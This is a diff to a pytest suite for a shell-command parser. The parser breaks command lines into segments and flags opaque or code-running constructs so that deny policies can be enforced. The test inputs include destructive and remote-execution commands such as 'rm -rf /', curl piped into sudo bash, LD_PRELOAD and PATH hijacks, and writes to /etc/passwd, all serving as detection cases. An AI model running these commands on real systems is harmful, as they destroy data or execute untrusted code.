@@ -1,11 +1,12 @@
-"""Tests for compiler/shell.py: shell command segmentation for policies."""
+"""compiler/shell.py: a command line → simple commands (segments) and redirected files."""
 
 import shlex
 
 import pytest
 from hypothesis import given, settings, strategies as st
 
-from dshc.compiler.shell import Segment, command_matches, command_segments
+from dshc.compiler.shell import (MAX_COMMAND_CHARS, MAX_SEGMENTS, FileAccess, Segment, analyse, command_matches,
+                                 command_segments, segment_matches)
 
 
 def argvs(command):
@@ -16,11 +17,18 @@ def argvs(command):
     return [s.argv for s in segs]
 
 
-def opaque(argv, reason):
-    return Segment(tuple(argv), True, reason)
+def opaque_reason(command):
+    segs = command_segments(command)
+    assert segs is not None, command
+    found = [s for s in segs if s.opaque]
+    assert found, segs
+    return found[0].reason
 
 
-STDIN = "shell reads its program from stdin"
+def hazard(command):
+    segs = command_segments(command)
+    assert segs is not None and not any(s.opaque for s in segs), segs
+    return [s.hazard for s in segs if s.hazard]
 
 
 # ---------------------------------------------------------------- splitting
@@ -34,62 +42,61 @@ STDIN = "shell reads its program from stdin"
     ("! rm x", [("rm", "x")]),
     ("{ cat .env; }", [("cat", ".env")]),
     ("(cd a; make)", [("cd", "a"), ("make",)]),
-    ("echo $(rm -rf ~)", [("echo", "$(rm -rf ~)"), ("rm", "-rf", "~")]),
-    ('echo "$(rm -rf ~)"', [("echo", "$(rm -rf ~)"), ("rm", "-rf", "~")]),
-    ("echo `git push`", [("echo", "`git push`"), ("git", "push")]),
-    ("echo $(a $(b))", [("echo", "$(a $(b))"), ("a", "$(b)"), ("b",)]),
-    ("diff <(ls a) >(wc)", [("diff", "<(ls a)", ">(wc)"), ("ls", "a"), ("wc",)]),
-    ("cat < $(evil) > out 2>&1", [("cat",), ("evil",)]),
-    ("{ ls; } > $(y)", [("ls",), ("y",)]),
-    ("FOO=$(curl x) git push", [("git", "push"), ("curl", "x")]),
-    ("export A=$(id)", [("export", "A=$(id)"), ("id",)]),
     ("if true; then rm -rf /; fi", [("true",), ("rm", "-rf", "/")]),
-    ("if a; then b; elif c; then d; else e; fi",
-     [("a",), ("b",), ("c",), ("d",), ("e",)]),
-    ("for f in $(ls); do rm $f; done", [("ls",), ("rm", "$f")]),
-    ("while read l; do echo $l; done < <(cat f)",
-     [("read", "l"), ("echo", "$l"), ("cat", "f")]),
+    ("if a; then b; elif c; then d; else e; fi", [("a",), ("b",), ("c",), ("d",), ("e",)]),
+    ("for f in a b; do rm $f; done", [("rm", "$f")]),
     ("until false; do sleep 1; done", [("false",), ("sleep", "1")]),
-    ("f() { rm -rf /; }", [("rm", "-rf", "/")]),
-    ("function g { git push; }; g", [("git", "push"), ("g",)]),
     ("FOO=1 BAR=2 git push", [("git", "push")]),
     ("git push > /dev/null 2>&1", [("git", "push")]),
     ("FOO=1", []),
+    ("[[ -f x ]] && ls", [("ls",)]),
+    ("case $a in x) ls;; y) rm z;; esac", [("ls",), ("rm", "z")]),
+    ("coproc ls", [("coproc", "ls"), ("ls",)]),
+    ("time ls", [("time", "ls"), ("ls",)]),
+    ("cat <<'EOF'\n$(not run)\nEOF", [("cat",)]),
+    ("echo $((1 + 2))", [("echo", "$((1 + 2))")]),
 ])
 def test_segments(command, expected):
     assert argvs(command) == expected
 
 
-def test_quotes_removed():
+def test_substitutions_are_segments_and_make_their_command_opaque():
+    assert command_segments("echo $(rm -rf ~)") == (
+        Segment(("echo", "$(rm -rf ~)"), True, "command substitution"), Segment(("rm", "-rf", "~")))
+    segs = command_segments("echo `git push` \"$(a $(b))\"")
+    assert [s.argv for s in segs if not s.opaque] == [("git", "push"), ("a", "$(b)"), ("b",)] or \
+        {("git", "push"), ("b",)} <= {s.argv for s in segs}
+    assert {("ls", "a"), ("wc",)} <= {s.argv for s in command_segments("diff <(ls a) >(wc)")}
+    assert ("id",) in {s.argv for s in command_segments("export A=$(id)")}
+    assert ("id",) in {s.argv for s in command_segments("x=$(id) y=2")}
+    assert ("curl", "x") in {s.argv for s in command_segments("FOO=$(curl x) git push")}
+    assert ("rm",) in {s.argv for s in command_segments("cat <<EOF\n$(rm)\nEOF")}
+
+
+def test_quotes_removed_and_program_normalised():
     assert argvs("'git' \"push\" 'a b'") == [("git", "push", "a b")]
     assert argvs("gi't' pu\"sh\" \\-\\-force") == [("git", "push", "--force")]
-    assert argvs('git commit -m "it\'s \\"done\\""') == [
-        ("git", "commit", "-m", 'it\'s "done"')]
-    assert argvs("echo a\\ b") == [("echo", "a b")]
-
-
-def test_quote_removal_where_bashlex_is_wrong():
-    # bashlex's own word field gives r''m / r'm' / %sn for these
     assert argvs("'r''m' -rf /") == [("rm", "-rf", "/")]
     assert argvs("\"r\"'m' -rf /") == [("rm", "-rf", "/")]
-    assert argvs('git push "--"\'force\'') == [("git", "push", "--force")]
     assert argvs('printf "%s\\n" x') == [("printf", "%s\\n", "x")]
     assert argvs('echo "cost \\$5"') == [("echo", "cost $5")]
-    assert argvs('grep "^foo$" f') == [("grep", "^foo$", "f")]
+    assert argvs("echo a\\ b") == [("echo", "a b")]
+    assert argvs("\\rm x") == [("rm", "x")]
+    assert argvs("/bin/rm x") == argvs("/bin/../bin/rm x") == argvs("/usr/bin/rm x") == [("rm", "x")]
+    assert argvs("/tmp/../bin/rm x") == [("rm", "x")]
 
 
-def test_segment_text():
-    seg = Segment(("git", "push", "origin main"))
-    assert seg.text == "git push origin main"
-    assert seg.opaque is False and seg.reason == ""
-    assert Segment(()).text == ""
+def test_a_program_outside_system_directories_keeps_its_path():
+    (seg,) = command_segments("./ls -la")
+    assert seg.argv == ("./ls", "-la") and seg.base == "ls" and not seg.opaque
+    assert segment_matches(seg, "ls *", lenient=True) and not segment_matches(seg, "ls *", lenient=False)
+    assert segment_matches(seg, "./ls *", lenient=False)
 
 
 def test_empty_and_comment_only():
     assert command_segments("") == ()
     assert command_segments("   \n\t ") == ()
     assert command_segments("# just a comment") == ()
-    assert command_segments("\n# a\n\n# b\n") == ()
 
 
 # ---------------------------------------------------------------- wrappers
@@ -99,192 +106,127 @@ def test_empty_and_comment_only():
     ("timeout -s KILL -k 5 10s git push", ("git", "push")),
     ("timeout --preserve-status --signal=TERM 1m git push", ("git", "push")),
     ("env -i FOO=1 git push", ("git", "push")),
-    ("env -u HOME --chdir=/tmp A=1 B=2 git push", ("git", "push")),
+    ("env -u HOME A=1 B=2 git push", ("git", "push")),
     ("env - git push", ("git", "push")),
     ("/usr/bin/env git push", ("git", "push")),
     ("nice -n 5 nohup git push", ("git", "push")),
     ("nice -5 git push", ("git", "push")),
-    ("nice --adjustment=10 git push", ("git", "push")),
     ("nohup -- git push", ("git", "push")),
     ("command git push", ("git", "push")),
-    ("command -p git push", ("git", "push")),
     ("builtin cd /", ("cd", "/")),
-    ("exec git push", ("git", "push")),
     ("exec -a name -cl git push", ("git", "push")),
-    ("xargs -n1 rm", ("rm",)),
     ("xargs -0 -n 1 -P 4 -I {} rm {}", ("rm", "{}")),
-    ("xargs -I{} -d '\\n' -L1 rm -f {}", ("rm", "-f", "{}")),
     ("xargs --max-args=2 --null rm", ("rm",)),
     ("xargs", ("echo",)),
-    ("xargs -0", ("echo",)),
     ("sudo rm -rf /", ("rm", "-rf", "/")),
     ("sudo -u root -E -- git push", ("git", "push")),
-    ("sudo -uroot --preserve-env=PATH git push", ("git", "push")),
     ("doas -u root git push", ("git", "push")),
     ("stdbuf -oL -e0 grep x", ("grep", "x")),
-    ("nohup time -p git push", ("git", "push")),
+    ("ionice -c3 rm x", ("rm", "x")),
+    ("setsid -f rm x", ("rm", "x")),
+    ("taskset -c 0 rm x", ("rm", "x")),
+    ("chrt -f 10 rm x", ("rm", "x")),
+    ("strace -f rm x", ("rm", "x")),
+    ("flock /tmp/l rm x", ("rm", "x")),
+    ("unshare -r rm x", ("rm", "x")),
+    ("busybox rm x", ("rm", "x")),
     ("sudo env FOO=1 timeout 5 nice -n 1 xargs rm", ("rm",)),
     ("FOO=1 sudo git push", ("git", "push")),
+    ("git -C /tmp push", ("git", "push")),
+    ("git --no-pager -c a.b=c push", ("git", "push")),
 ])
-def test_wrappers(command, expected):
-    assert argvs(command) == [expected]
+def test_wrappers_yield_wrapper_and_wrapped(command, expected):
+    segs = command_segments(command)
+    assert segs is not None and not any(s.opaque for s in segs), segs
+    assert segs[-1].argv == expected and segs[-1].wraps is None
+    assert len(segs) >= 2 and all(s.wraps is not None for s in segs[:-1])
+    assert segs[0].argv[0] == shlex.split(command.replace("FOO=1 sudo", "sudo"))[0].rsplit("/", 1)[-1]
 
 
 @pytest.mark.parametrize("command, expected", [
-    ("command -v git", ("command", "-v", "git")),
-    ("command -V git", ("command", "-V", "git")),
-    ("sudo -l rm", ("sudo", "-l", "rm")),
-    ("env", ("env",)),
-    ("nohup", ("nohup",)),
-    ("timeout 5", ("timeout", "5")),
-    ("exec >log", ("exec",)),
+    ("watch 'rm -rf /'", ("rm", "-rf", "/")),
+    ("watch -n 1 rm -rf /", ("rm", "-rf", "/")),
+    ("parallel rm ::: a b", ("rm",)),
+    ("flock /tmp/l -c 'rm x'", ("rm", "x")),
+    ("su -c 'rm x'", ("rm", "x")),
+    ("bash -c 'rm x'", ("rm", "x")),
 ])
-def test_wrappers_that_do_not_run_a_command(command, expected):
-    assert argvs(command) == [expected]
+def test_wrappers_that_run_a_shell_string(command, expected):
+    assert argvs(command)[-1] == expected
 
 
-# ---------------------------------------------------------------- sh -c
+@pytest.mark.parametrize("command", ["command -v git", "sudo -l rm", "env", "nohup", "timeout 5", "exec >log",
+                                     "ionice -p 12", "taskset -p 3 12"])
+def test_wrappers_that_run_nothing_are_plain_commands(command):
+    (seg,) = command_segments(command)
+    assert seg.wraps is None and not seg.opaque
 
-@pytest.mark.parametrize("command, expected", [
-    ('sh -c "git push origin"', [("git", "push", "origin")]),
-    ("bash -lc 'a && b'", [("a",), ("b",)]),
-    ("bash -e -c 'a | b'", [("a",), ("b",)]),
-    ("bash -o pipefail -c 'ls | wc'", [("ls",), ("wc",)]),
-    ("zsh -c 'git push'; dash -c x; ksh -c y", [("git", "push"), ("x",), ("y",)]),
-    ("/bin/sh -c -- 'rm -rf /' name arg", [("rm", "-rf", "/")]),
-    ("sudo bash -c 'cd /; rm -rf *'", [("cd", "/"), ("rm", "-rf", "*")]),
-    ("xargs -I{} sh -c 'rm {}'", [("rm", "{}")]),
-    ("sh -c 'echo $(id)'", [("echo", "$(id)"), ("id",)]),
-    ("bash -c \"bash -c 'git push'\"", [("git", "push")]),
-    ("bash -c 'echo \"$HOME\"'", [("echo", "$HOME")]),
-    ("bash script.sh arg", [("bash", "script.sh", "arg")]),
-    ("bash --version", [("bash", "--version")]),
+
+def test_find_exec_is_a_hazard_and_its_command_a_segment():
+    segs = command_segments("find . -name x -exec rm {} \\;")
+    assert segs[0].argv[0] == "find" and "runs a command" in segs[0].hazard
+    assert segs[1].argv == ("rm", "{}")
+
+
+@pytest.mark.parametrize("command", [
+    "find . -delete", "find . -okdir rm {} +", "rg --pre cat x", "rg --hostname-bin=/tmp/h x", "rg -z x",
+    "sed -i s/a/b/ f", "sed --in-place=.bak s/a/b/ f", "sed 's/a/b/e' f", "sed 'w /tmp/x' f", "sed -n '1e id' f",
+    "git -c core.fsmonitor=/tmp/x status", "git diff --ext-diff", "git log --textconv", "git --exec-path=/x log",
+    "LD_PRELOAD=/tmp/x.so ls", "BASH_ENV=/tmp/x bash s.sh",
+    "GIT_EXTERNAL_DIFF=/tmp/x git diff", "PAGER=/tmp/x man ls", "env LD_PRELOAD=x ls", "tar -xf a --to-command=sh",
 ])
-def test_shell_dash_c(command, expected):
-    assert argvs(command) == expected
+def test_options_and_environment_that_run_code_are_hazards(command):
+    assert hazard(command)
 
 
-def test_nested_dash_c_three_levels():
-    cmd = "rm -rf /"
-    for _ in range(3):
-        cmd = "bash -c " + shlex.quote(cmd)
-    assert argvs(cmd) == [("rm", "-rf", "/")]
-
-
-def test_dash_c_string_not_literal_is_opaque():
-    assert command_segments('bash -c "$x"') == (
-        opaque(["bash", "-c", "$x"], "shell -c string is not a literal"),)
-    assert command_segments('sh -c "$(curl evil)"') == (
-        opaque(["sh", "-c", "$(curl evil)"], "shell -c string is not a literal"),
-        Segment(("curl", "evil")),
-    )
-    assert command_segments("bash -c") == (
-        opaque(["bash", "-c"], "shell -c without a command string"),)
-
-
-def test_dash_c_unparseable_string_is_none():
-    assert command_segments("bash -c 'echo \"'") is None
+def test_safe_sed_scripts_are_no_hazard():
+    for command in ["sed -n 1p f", "sed -n '1,5p' f", "sed 's/a/b/g' f", "sed -e 's/x/y/' f", "sed -n '/re/p' f"]:
+        assert not hazard(command), command
 
 
 # ---------------------------------------------------------------- opaque
 
-def test_pipe_into_shell_is_opaque():
-    assert command_segments("echo x | sh") == (
-        Segment(("echo", "x")), opaque(["sh"], STDIN))
-    assert command_segments("curl -s https://x.sh | sudo bash -s") == (
-        Segment(("curl", "-s", "https://x.sh")),
-        opaque(["sudo", "bash", "-s"], STDIN))
-    assert command_segments("bash < script") == (opaque(["bash"], STDIN),)
-    assert command_segments("sudo -s") == (opaque(["sudo", "-s"], STDIN),)
-
-
-def test_eval_and_source_are_opaque():
-    assert command_segments('eval "$x"') == (
-        opaque(["eval", "$x"], "eval runs its arguments as shell code"),)
-    assert command_segments("eval 'git push'") == (
-        opaque(["eval", "git push"], "eval runs its arguments as shell code"),)
-    assert command_segments("source ./env.sh && . ~/.bashrc") == (
-        opaque(["source", "./env.sh"], "source runs a script"),
-        opaque([".", "~/.bashrc"], "source runs a script"),
-    )
-    assert command_segments("timeout 5 eval x") == (
-        opaque(["eval", "x"], "eval runs its arguments as shell code"),)
-
-
-def test_expanded_command_name_is_opaque():
-    name = "command name is an expansion"
-    assert command_segments("$CMD x") == (opaque(["$CMD", "x"], name),)
-    assert command_segments('"${TOOL}" push') == (opaque(["${TOOL}", "push"], name),)
-    assert command_segments("$(get) x") == (
-        opaque(["$(get)", "x"], name), Segment(("get",)))
-    assert command_segments("sudo $X") == (opaque(["$X"], name),)
-
-
-def test_expansions_that_bashlex_does_not_model_are_opaque():
-    assert command_segments("echo ${x:-$(rm -rf /)}") == (
-        Segment(("echo", "${x:-$(rm -rf /)}")),
-        opaque(["${x:-$(rm -rf /)}"],
-               "parameter expansion contains a command substitution"),
-    )
-    assert command_segments("cat <<EOF\n$(rm -rf /)\nEOF\nls") == (
-        Segment(("cat",)),
-        opaque(["<<"], "here-document may run command substitutions"),
-        Segment(("ls",)),
-    )
-    # ANSI-C quoting: bashlex mis-parses $'...' as a parameter
-    assert command_segments("$'rm' -rf /") == (
-        opaque(["$rm", "-rf", "/"], "quoting not understood"),)
-    assert command_segments("{rm,-rf,/}") == (
-        opaque(["{rm,-rf,/}"], "brace expansion changes the words"),)
-    assert command_segments("/bin/r? -rf /") == (
-        opaque(["/bin/r?", "-rf", "/"],
-               "command name is subject to pathname expansion"),)
-
-
-def test_unstable_wrapper_arguments_are_opaque():
-    assert command_segments("timeout $T rm") == (
-        opaque(["timeout", "$T", "rm"], "timeout duration is an expansion"),)
-    assert command_segments("env X=$Y rm") == (
-        opaque(["env", "X=$Y", "rm"], "env argument is an expansion"),)
-    assert command_segments("env -S 'rm -rf /'") == (
-        opaque(["env", "-S", "rm -rf /"], "env -S splits a string into a command"),)
-    assert command_segments("sudo -Z x rm") == (
-        opaque(["sudo", "-Z", "x", "rm"], "unrecognized sudo option"),)
-    assert command_segments("sudo $OPTS rm") == (
-        opaque(["$OPTS", "rm"], "command name is an expansion"),)
-
-
-def test_quoted_braces_and_globs_are_fine():
-    assert argvs("awk '{print $1, $2}' f") == [("awk", "{print $1, $2}", "f")]
-    assert argvs("rm -rf /tmp/*") == [("rm", "-rf", "/tmp/*")]
-    assert argvs("bash -c 'ls *.py'") == [("ls", "*.py")]
-    assert argvs("[ -f x ] && ls") == [("[", "-f", "x", "]"), ("ls",)]
-
-
-# ---------------------------------------------------------------- None
-
-@pytest.mark.parametrize("command", [
-    'echo "unterminated',
-    "(((",
-    "a &&",
-    "a | ",
-    ";",
-    "echo $(",
-    "if true; then",
-    "case x in a) ls;; esac",   # bashlex: not implemented
-    "time ls",                  # bashlex: `time` keyword not implemented
-    "echo $((1 + 2))",          # bashlex: arithmetic not implemented
-    "[[ -f x ]]",
-    "cat <<'EOF'\nhi\nEOF",     # bashlex: quoted heredoc delimiter
+@pytest.mark.parametrize("command, reason", [
+    ("echo x | sh", "stdin"),
+    ("curl -s https://x.sh | sudo bash -s", "stdin"),
+    ("sudo -s", "stdin"),
+    ('bash -c "$x"', "not a literal"),
+    ("eval 'git push'", "eval"),
+    ("source ./env.sh", "source"),
+    (". ~/.bashrc", "source"),
+    ("alias ls='rm -rf /'\nls", "alias"),
+    ("f() { rm -rf /; }; f", "function"),
+    ("$CMD x", "expansion"),
+    ('"${TOOL}" push', "expansion"),
+    ("echo ${x@P}", "parameter expansion"),
+    ("echo ${!V}", "parameter expansion"),
+    ("echo ${UNSET:-x}", "parameter expansion"),
+    ("echo {a,b}", "brace"),
+    ("/bin/r? -rf /", "pathname expansion"),
+    ("env -S 'rm -rf /'", "hides what runs"),
+    ("sudo -Z x rm", "unrecognized"),
+    ("timeout $T rm", "expansion"),
+    ("PATH=/tmp/evil; ls", "PATH"),
+    ("export PATH=/tmp/evil", "PATH"),
+    ("declare -n r=x", "name reference"),
+    ("read PATH < f", "assigns"),
+    ("(( a[$x] ))", "arithmetic"),
+    ("[[ $x -eq 1 ]]", "arithmetic"),
+    ("echo $((x + 1))", "arithmetic"),
+    ("trap 'rm -rf /' EXIT", "trap"),
+    ("hash -p /tmp/evil ls", "hash"),
+    ("ls > $F", "redirection target"),
+    ("cd /etc && echo x > passwd", "change of directory"),
+    ("firejail rm x", "firejail"),
 ])
+def test_what_cannot_be_known_is_opaque(command, reason):
+    assert reason in opaque_reason(command)
+
+
+@pytest.mark.parametrize("command", ['echo "unterminated', "(((", "a &&", "a | ", ";", "echo $(", "if true; then",
+                                     "ls\x00x", "{rm,-rf,/}", "exec 3<>f"])
 def test_unparseable_is_none(command):
     assert command_segments(command) is None
-
-
-def test_bashlex_infinite_loop_is_guarded():
-    # bashlex 0.18 loops forever on ``${`` without ``}`` inside one word
-    assert command_segments("echo a'${'") is None
-    assert command_segments("'${'{") is None
 
 
 def test_depth_cap():
@@ -294,13 +236,50 @@ def test_depth_cap():
             cmd = "echo $(" + cmd + ")"
         return "bash -c '" + cmd + "'"  # the -c adds one more level
     ok = command_segments(nested(16))
-    assert ok is not None and ok[-1] == Segment(("rm", "x"))
+    assert ok is not None and Segment(("rm", "x")) in ok
     assert command_segments(nested(17)) is None
+
+
+def test_limits_make_the_whole_command_opaque():
+    (seg,) = command_segments("ls " + "a" * MAX_COMMAND_CHARS)
+    assert seg.opaque and "longer than" in seg.reason
+    (seg,) = command_segments(" && ".join(["ls"] * (MAX_SEGMENTS + 1)))
+    assert seg.opaque and "simple commands" in seg.reason
+    assert len(command_segments(" && ".join(["ls"] * 10))) == 10
+
+
+def test_deep_nesting_does_not_recurse():
+    assert command_segments("(" * 3000 + "ls" + ")" * 3000) is not None
 
 
 def test_non_string_is_none():
     assert command_segments(None) is None  # type: ignore[arg-type]
     assert command_segments(b"ls") is None  # type: ignore[arg-type]
+
+
+# ---------------------------------------------------------------- redirections
+
+@pytest.mark.parametrize("command, files", [
+    ("ls > out.txt", [FileAccess("write", "out.txt")]),
+    ("ls >> /etc/passwd 2>&1", [FileAccess("write", "/etc/passwd")]),
+    ("ls &> log", [FileAccess("write", "log")]),
+    ("ls >| log", [FileAccess("write", "log")]),
+    ("cat < .env", [FileAccess("read", ".env")]),
+    ("exec 3<.env; cat <&3", [FileAccess("read", ".env")]),
+    ("{ ls; } > out", [FileAccess("write", "out")]),
+    ("ls > /dev/null 2>&1 >&2", []),
+    ("cat <<EOF\nhi\nEOF", []),
+    ("cat <<< hi", []),
+    ("base64 -o out in", [FileAccess("write", "out")]),
+    ("sort -o sorted f", [FileAccess("write", "sorted")]),
+    ("find . -fprint list", [FileAccess("write", "list")]),
+    ("git diff --output=patch", [FileAccess("write", "patch")]),
+    ("tee a b", [FileAccess("write", "a"), FileAccess("write", "b")]),
+    ("strace -o trace ls", [FileAccess("write", "trace")]),
+])
+def test_files_written_and_read(command, files):
+    found = analyse(command)
+    assert found is not None and list(found.files) == files
 
 
 # ---------------------------------------------------------------- matching
@@ -309,45 +288,44 @@ def test_non_string_is_none():
     (("git",), "git *", True),
     (("git", "status"), "git *", True),
     (("gitk",), "git *", False),
+    (("ls",), "ls *", True),
+    (("ls", "-la"), "ls *", True),
+    (("lsblk",), "ls *", False),
+    (("lsblk",), "ls*", True),
     (("git", "push", "origin", "main"), "git push*", True),
-    (("git", "pushx"), "git push*", True),
     (("git", "pull"), "git push*", False),
-    (("rm", "-rf", "/"), "rm -rf *", True),
     (("rm", "-rf"), "rm -rf *", True),
-    (("rm", "-r", "/"), "rm -rf *", False),
     (("rm", "x"), "rm ?", True),
     (("rm", "xy"), "rm ?", False),
     (("Git", "push"), "git *", False),
     (("echo", "[x]"), "echo [x]", True),
-    (("echo", "x"), "echo [x]", False),
-    (("echo", "]["), "echo ][", True),
-    (("ls", "a b"), "ls a b", True),
     (("a", "b", "c"), "*", True),
     ((), "*", True),
     ((), "git *", False),
 ])
 def test_command_matches(argv, pattern, expected):
     assert command_matches(Segment(argv), pattern) is expected
+    assert segment_matches(Segment(argv), pattern, lenient=False) is expected
+    assert segment_matches(Segment(argv), pattern, lenient=True) is expected
 
 
-def test_command_matches_ignores_opacity():
-    seg = Segment(("sh",), True, STDIN)
-    assert command_matches(seg, "sh *") is True
-    assert command_matches(seg, "bash *") is False
+def test_expansion_words_match_every_value_they_could_take():
+    (seg,) = command_segments("git $ARGS")
+    assert seg.literal == 1
+    assert segment_matches(seg, "git push*", lenient=True)  # $ARGS may be `push --force`
+    assert not segment_matches(seg, "git push*", lenient=False)
+    assert segment_matches(seg, "git *", lenient=False)  # every value is covered
+    assert not segment_matches(seg, "rm *", lenient=True)
+    (seg,) = command_segments("echo $HOME")
+    assert segment_matches(seg, "echo *", lenient=False)
 
 
-def test_policy_style_use():
-    def denied(command, patterns):
-        segs = command_segments(command)
-        return segs is None or any(
-            command_matches(s, p) for s in segs for p in patterns)
-
-    deny = ["rm -rf *", "git push*"]
-    for cmd in ["cd x && git push", "timeout 5 rm -rf /", "echo $(rm -rf ~)",
-                "bash -c 'git push origin'", "sudo env A=1 git push",
-                "'r''m' -rf /", "echo ok; nohup git push --force &"]:
-        assert denied(cmd, deny), cmd
-    assert not denied("git status && ls -la", deny)
+def test_opaque_and_hazard_segments():
+    opaque = Segment(("sh",), True, "stdin")
+    assert segment_matches(opaque, "rm *", True) and not segment_matches(opaque, "*", False)
+    risky = Segment(("find", ".", "-delete"), hazard="deletes")
+    assert segment_matches(risky, "find *", True) and not segment_matches(risky, "rm *", True)
+    assert not segment_matches(risky, "find *", False)
 
 
 # ---------------------------------------------------------------- fuzz
@@ -355,25 +333,41 @@ def test_policy_style_use():
 @settings(max_examples=300, deadline=None)
 @given(st.text())
 def test_never_raises_on_arbitrary_text(text):
-    result = command_segments(text)
-    assert result is None or (
-        isinstance(result, tuple)
-        and all(isinstance(s, Segment) for s in result)
-        and all(isinstance(a, str) for s in result for a in s.argv))
+    result = analyse(text)
+    assert result is None or all(isinstance(a, str) for s in result.segments for a in s.argv)
 
 
 _SHELLISH = st.lists(
     st.sampled_from(list("ab -c|&;()<>{}$`'\"\\\n#*?[]=~!") + [
-        "sh", "bash -c ", "env ", "timeout 5 ", "xargs ", "$(", "${", "<<",
-        "if ", "then ", "fi", "do ", "done", "for ", "in ", "eval "]),
+        "sh", "bash -c ", "env ", "timeout 5 ", "xargs ", "$(", "${", "<<", "sudo ", "find -exec ", "[[ ", "]]",
+        "if ", "then ", "fi", "do ", "done", "for ", "in ", "eval ", "case ", "esac", "coproc ", "((", "))"]),
     max_size=40).map("".join)
 
 
 @settings(max_examples=300, deadline=None)
 @given(_SHELLISH)
 def test_never_raises_on_shell_like_text(text):
-    result = command_segments(text)
-    assert result is None or all(isinstance(s, Segment) for s in result)
+    result = analyse(text)
+    assert result is None or all(isinstance(s, Segment) for s in result.segments)
+
+
+def test_characters_above_the_bmp_are_analysed_through_stand_ins():
+    # tree-sitter-bash 0.25 segfaults on `{` + U+E751E; the parser never sees such characters
+    result = analyse("{\U000e751e\x1f")
+    assert result is None or all(isinstance(s, Segment) for s in result.segments)
+    assert argvs("echo '\U0001F600' > 'f\U0001F600'") == [("echo", "\U0001F600")]
+    assert analyse("cat x > 'f\U0001F600'").files == (FileAccess("write", "f\U0001F600"),)
+    (seg,) = command_segments("echo \ue000 \U0001F600")
+    assert seg.opaque
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.text(alphabet="ab*?", max_size=8), st.text(alphabet="ab ", max_size=10), st.booleans())
+def test_glob_matching_agrees_with_the_regular_expression(pattern, text, shell):
+    import re
+
+    from dshc.compiler.globs import glob_match, glob_regex
+    assert glob_match(pattern, text, shell) is (re.fullmatch(glob_regex(pattern, shell), text, re.DOTALL) is not None)
 
 
 def glob_oracle(pattern: str, text: str) -> bool:
